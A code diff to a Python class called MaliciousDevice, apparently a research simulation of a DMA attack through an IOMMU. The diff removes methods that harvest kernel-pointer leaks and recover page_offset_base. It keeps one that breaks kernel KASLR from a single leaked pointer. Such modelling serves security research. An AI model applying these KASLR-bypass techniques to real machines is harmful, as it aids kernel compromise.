@@ -137,15 +137,7 @@ class MaliciousDevice:
         return self._iommu.device_can_access(self.device_name, iova,
                                              write=True)
 
-    def can_read(self, iova: int) -> bool:
-        return self._iommu.device_can_access(self.device_name, iova,
-                                             write=False)
-
     # -- leak harvesting (section 2.4) ------------------------------------------------
-
-    def harvest_leaks(self, iova: int, length: int) -> list[PointerLeak]:
-        """Scan a readable window for kernel pointers."""
-        return self.leak_scanner.scan(self.dma_read(iova, length))
 
     def try_recover_text_base(self, leaks: list[PointerLeak]) -> bool:
         """init_net matching: one leaked pointer breaks text KASLR."""
@@ -169,15 +161,3 @@ class MaliciousDevice:
                     f"leak {leak.value:#x}")
                 return True
         return False
-
-    def try_recover_page_offset_base(
-            self, pairs: list[tuple[int, int]]) -> bool:
-        """Vote (pfn, same-page KVA) pairs into page_offset_base."""
-        base = self.leak_scanner.recover_page_offset_base(pairs)
-        if base is None:
-            return False
-        self.knowledge.page_offset_base = base
-        self.knowledge.notes.append(
-            f"page_offset_base {base:#x} recovered from "
-            f"{len(pairs)} (pfn, kva) pairs")
-        return True
